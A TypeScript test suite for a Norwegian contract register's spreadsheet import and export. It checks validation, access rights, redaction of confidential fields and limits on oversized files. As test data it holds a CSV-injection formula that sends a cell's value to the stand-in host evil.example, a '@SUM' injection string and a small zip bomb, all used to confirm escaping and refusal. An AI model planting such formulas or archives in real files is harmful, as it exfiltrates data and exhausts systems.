import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import yazl from 'yazl';
import { asViewer, type User } from '../../src/core/index.ts';
import { exportXlsx } from '../../src/register-io/export.ts';
import { importRegister } from '../../src/register-io/import.ts';
import { FileRefusedError } from '../../src/register-io/read.ts';
import type { Services } from '../../src/services.ts';
import { allContracts, comparable, csv, demoServices, HEADER, row, unzipText } from './helpers.ts';

describe('register import and export', () => {
  let s: Services & { cleanup(): Promise<void> };
  let admin: User;
  let reader: User;
  let eier2: User;
  before(async () => {
    s = await demoServices();
    const get = async (id: string) => {
      const u = await s.store.directory.getUser(id);
      assert.ok(u);
      return u;
    };
    admin = await get('kontraktservice');
    reader = await get('leser');
    eier2 = await get('eier2');
  });
  after(() => s.cleanup());

  const auditCount = async () => (await s.store.audit.since(0, 1_000_000)).length;

  it('round-trips: export → import into a fresh register gives the same contracts', async () => {
    const { buffer, count } = await exportXlsx(s.contracts, asViewer(admin), {
      includeExpired: true,
    });
    assert.equal(count, 320);
    const fresh = await demoServices(10); // the same directory, other contracts
    try {
      const report = await importRegister(fresh.contracts, admin, buffer, { dryRun: false });
      assert.deepEqual(report.issues, []);
      assert.equal(report.committed, true);
      const source = await allContracts(s);
      const copy = await allContracts(fresh);
      for (const [ref, c] of source) {
        const other = copy.get(ref);
        assert.ok(other, ref);
        assert.deepEqual(comparable(other), comparable(c), ref);
      }
    } finally {
      await fresh.cleanup();
    }
  });

  it('re-importing an export into the same register changes nothing', async () => {
    const { buffer } = await exportXlsx(s.contracts, asViewer(admin), { includeExpired: true });
    const before = await auditCount();
    const report = await importRegister(s.contracts, admin, buffer, { dryRun: false });
    assert.equal(report.committed, true);
    assert.equal(report.updated, 320);
    assert.equal(await auditCount(), before, 'no audit entry: nothing changed');
  });

  it('reads the documented CSV layout: several suppliers, ranks, options, KPI, øre', async () => {
    const report = await importRegister(s.contracts, admin, csv(HEADER, [row()]), {
      dryRun: false,
    });
    assert.deepEqual(report.issues, []);
    const c = await s.store.contracts.getByReference('IMP-0001');
    assert.ok(c);
    assert.equal(c.estimatedValueOre, 125_000_050);
    assert.equal(c.maxValueOre, 200_000_000);
    assert.deepEqual(
      c.suppliers.map((x) => [x.orgnr, x.name, x.rank]),
      [
        ['974760673', 'Brøyt & Strø AS', 1],
        ['986105174', 'Vestland Maskin AS', 2],
      ],
    );
    assert.deepEqual(
      c.options.map((o) => [o.newEndDate, o.decisionDeadline, o.state]),
      [
        ['2028-12-31', '2027-09-30', 'open'],
        ['2029-12-31', '2028-09-30', 'open'],
      ],
    );
    assert.deepEqual(c.priceAdjustment, {
      index: 'KPI',
      basePeriod: '2025-10',
      adjustmentMonth: 1,
      sharePercent: 100,
    });
  });

  it('one bad row: the report names row, column and reason, and nothing changes', async () => {
    const before = await s.store.contracts.count();
    const audit = await auditCount();
    const file = csv(HEADER, [
      row({ Avtalenummer: 'BAD-1' }),
      row({ Avtalenummer: 'BAD-2', 'Leverandør orgnr': '974760673; 123456789' }),
      row({ Avtalenummer: 'BAD-3', 'Anslått verdi (NOK)': '-5', Eierenhet: 'u-finnes-ikke' }),
      row({ Avtalenummer: 'BAD-4', Startdato: '01.01.2028', Sluttdato: '31.12.2027' }),
      row({ Avtalenummer: 'BAD-1' }),
    ]);
    for (const dryRun of [true, false]) {
      const report = await importRegister(s.contracts, admin, file, { dryRun });
      assert.equal(report.committed, false);
      assert.equal(report.rows, 5);
      const at = (r: number) =>
        report.issues.filter((i) => i.row === r).map((i) => [i.column, i.message]);
      assert.deepEqual(at(2), []);
      assert.deepEqual(at(3), [
        [
          'Leverandør orgnr',
          'leverandør 2: er ikke et gyldig organisasjonsnummer (9 siffer med MOD11-kontrollsiffer)',
        ],
      ]);
      assert.deepEqual(at(4), [
        ['Eierenhet', 'enheten u-finnes-ikke finnes ikke'],
        ['Anslått verdi (NOK)', 'kan ikke være negativ'],
      ]);
      assert.deepEqual(at(5), [['Sluttdato', 'sluttdato er før startdato']]);
      assert.deepEqual(at(6), [['Avtalenummer', 'avtalenummeret står også i rad 2']]);
      const letters = report.issues.map((i) => i.columnLetter);
      assert.ok(letters.includes('I') && letters.includes('G'));
    }
    assert.equal(await s.store.contracts.count(), before);
    assert.equal(await s.store.contracts.getByReference('BAD-1'), null);
    assert.equal(await auditCount(), audit);
  });

  it('a dry run reports what would happen and writes nothing', async () => {
    const before = await s.store.contracts.count();
    const report = await importRegister(
      s.contracts,
      admin,
      csv(HEADER, [row({ Avtalenummer: 'DRY-1' }), row({ Avtalenummer: 'IMP-0001' })]),
      { dryRun: true },
    );
    assert.deepEqual([report.created, report.updated, report.committed], [1, 1, false]);
    assert.equal(await s.store.contracts.count(), before);
  });

  it('imports the documented example file without a problem', async () => {
    const file = readFileSync(
      new URL('../../docs/examples/avtaleregister-import.csv', import.meta.url),
    );
    const report = await importRegister(s.contracts, admin, file, { dryRun: true });
    assert.deepEqual(report.issues, []);
    assert.deepEqual([report.rows, report.created], [3, 3]);
  });

  it('reports header problems: unknown and missing columns', async () => {
    const header: string[] = [...HEADER.filter((h) => h !== 'Kontraktseier'), 'Tull'];
    const rowCells = row()
      .filter((_c, i) => HEADER[i] !== 'Kontraktseier')
      .concat(['x']);
    const report = await importRegister(s.contracts, admin, csv(header, [rowCells]), {
      dryRun: true,
    });
    const header1 = report.issues.filter((i) => i.row === 1).map((i) => i.message);
    assert.ok(header1.some((m) => m.includes('ukjent kolonne «Tull»')));
    assert.ok(header1.some((m) => m.includes('«Kontraktseier» mangler')));
  });

  it('stores a CSV injection string as plain text and escapes it again on export', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")';
    const report = await importRegister(
      s.contracts,
      admin,
      csv(HEADER, [
        row({ Avtalenummer: 'INJ-1', Tittel: evil, Leverandørnavn: '@SUM(1+1)\n+47 Vest AS' }),
      ]),
      { dryRun: false },
    );
    assert.deepEqual(report.issues, []);
    const c = await s.store.contracts.getByReference('INJ-1');
    assert.equal(c?.title, evil);
    const { buffer } = await exportXlsx(s.contracts, asViewer(admin), { text: 'INJ-1' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    const sheet = wb.getWorksheet('Avtaler');
    assert.ok(sheet);
    const cells: unknown[] = [];
    sheet.getRow(2).eachCell((cell) => cells.push(cell.value));
    assert.ok(cells.includes(`'${evil}`), 'title escaped');
    assert.ok(cells.includes("'@SUM(1+1)\n+47 Vest AS"), 'names escaped');
    assert.ok(
      cells.every(
        (v) => typeof v !== 'object' || v === null || v instanceof Date || !('formula' in v),
      ),
    );
    // …and the escape is removed again when the file comes back.
    const back = await importRegister(s.contracts, admin, buffer, { dryRun: true });
    assert.deepEqual(back.issues, []);
  });

  it("a reader's export holds no confidential value, only the withheld fields and their basis", async () => {
    const secret = 'HEMMELIG-VILKÅR-7f3a';
    await importRegister(
      s.contracts,
      admin,
      csv(
        [...HEADER, 'Leverandørvilkår', 'Beskrivelse'],
        [
          [
            ...row({
              Avtalenummer: 'CONF-1',
              Tittel: 'TITTEL-HEMMELIG-91',
              'Anslått verdi (NOK)': '987 654 321',
              'Maksimal verdi (NOK)': '999 999 999',
              'Skjermede felt':
                'tittel: Offl. § 24 tredje ledd\nleverandørvilkår: Offl. § 13 jf. fvl. § 13 første ledd nr. 2\nanslått verdi: Offl. § 13 jf. fvl. § 13 første ledd nr. 2\nbeskrivelse: Offl. § 24 tredje ledd\nopsjoner: Offl. § 23 første ledd\nprisregulering: Offl. § 23 første ledd',
            }),
            `${secret}\nAndre vilkår`,
            'BESKRIVELSE-HEMMELIG-55',
          ],
        ],
      ),
      { dryRun: false },
    ).then((r) => assert.deepEqual(r.issues, []));
    const secrets = [secret, 'TITTEL-HEMMELIG-91', 'BESKRIVELSE-HEMMELIG-55', '987654321'];
    const asReader = await unzipText(
      (await exportXlsx(s.contracts, asViewer(reader), { text: 'CONF-1' })).buffer,
    );
    for (const x of secrets) assert.equal(asReader.includes(x), false, `reader sees ${x}`);
    assert.ok(asReader.includes('CONF-1'));
    assert.ok(asReader.includes('Offl. § 13 jf. fvl. § 13 første ledd nr. 2'));
    // The owner and Kontraktservice do see them: the check above could fail.
    const asOwner = await unzipText(
      (
        await exportXlsx(
          s.contracts,
          asViewer((await s.store.directory.getUser('eier1')) as User),
          { text: 'CONF-1' },
        )
      ).buffer,
    );
    for (const x of [secret, 'TITTEL-HEMMELIG-91', 'BESKRIVELSE-HEMMELIG-55', '987654321']) {
      assert.ok(asOwner.includes(x), `owner sees ${x}`);
    }
  });

  it('checks rights: a reader may not import; an owner only their own contracts', async () => {
    await assert.rejects(
      importRegister(s.contracts, reader, csv(HEADER, [row()]), { dryRun: true }),
      /tilgang/,
    );
    const report = await importRegister(
      s.contracts,
      eier2,
      csv(HEADER, [
        row({ Avtalenummer: 'IMP-0001', Kontraktseier: 'eier2' }),
        row({ Avtalenummer: 'NEW-E2' }),
      ]),
      { dryRun: true },
    );
    assert.deepEqual(
      report.issues.map((i) => [i.row, i.column]),
      [
        [2, 'Avtalenummer'],
        [3, 'Kontraktseier'],
      ],
    );
  });

  it('refuses huge files, too many rows and zip bombs with a clear error', async () => {
    const big = Buffer.alloc(2048, 'a');
    await assert.rejects(
      importRegister(s.contracts, admin, big, { dryRun: true, limits: { maxBytes: 1024 } }),
      (e: unknown) =>
        e instanceof FileRefusedError && e.status === 413 && /for stor/.test(e.message),
    );
    const rows = Array.from({ length: 6 }, (_v, i) => row({ Avtalenummer: `MANY-${i}` }));
    await assert.rejects(
      importRegister(s.contracts, admin, csv(HEADER, rows), {
        dryRun: true,
        limits: { maxRows: 5 },
      }),
      (e: unknown) =>
        e instanceof FileRefusedError && e.status === 413 && /for mange rader/.test(e.message),
    );
    const zip = new yazl.ZipFile();
    zip.addBuffer(Buffer.alloc(8 * 1024 * 1024), 'xl/worksheets/sheet1.xml');
    zip.end();
    const chunks: Buffer[] = [];
    for await (const c of zip.outputStream) chunks.push(c as Buffer);
    const bomb = Buffer.concat(chunks);
    assert.ok(bomb.length < 100_000);
    await assert.rejects(
      importRegister(s.contracts, admin, bomb, {
        dryRun: true,
        limits: { maxUnpackedBytes: 1024 * 1024 },
      }),
      (e: unknown) =>
        e instanceof FileRefusedError && e.status === 413 && /pakker ut/.test(e.message),
    );
    await assert.rejects(
      importRegister(s.contracts, admin, Buffer.from('PK\u0003\u0004garbage'), { dryRun: true }),
      (e: unknown) => e instanceof FileRefusedError && e.status === 400,
    );
  });

  it('refuses formula cells in an uploaded workbook', async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('Avtaler');
    sheet.addRow([...HEADER]);
    const cells: (string | { formula: string })[] = row({ Avtalenummer: 'F-1' });
    cells[1] = { formula: 'CONCATENATE("Ti","tel")' };
    sheet.addRow(cells);
    const buffer = Buffer.from(await wb.xlsx.writeBuffer());
    const report = await importRegister(s.contracts, admin, buffer, { dryRun: true });
    assert.deepEqual(
      report.issues.map((i) => [i.row, i.column, i.columnLetter]),
      [[2, 'Tittel', 'B']],
    );
    assert.match(report.issues[0]?.message ?? '', /formel/);
  });

  it('reads a Windows-1252 CSV (older Norwegian Excel) with æ, ø and å intact', async () => {
    const text = csv(HEADER, [
      row({ Avtalenummer: 'W-1', Tittel: 'Vedlikehold av grøntanlegg på Årstad' }),
    ]).toString('utf8');
    const bytes = Buffer.from(
      [...text].map(
        (ch) => ({ æ: 0xe6, ø: 0xf8, å: 0xe5, Æ: 0xc6, Ø: 0xd8, Å: 0xc5 })[ch] ?? ch.charCodeAt(0),
      ),
    );
    const report = await importRegister(s.contracts, admin, bytes, { dryRun: false });
    assert.deepEqual(report.issues, []);
    assert.equal(
      (await s.store.contracts.getByReference('W-1'))?.title,
      'Vedlikehold av grøntanlegg på Årstad',
    );
  });
});
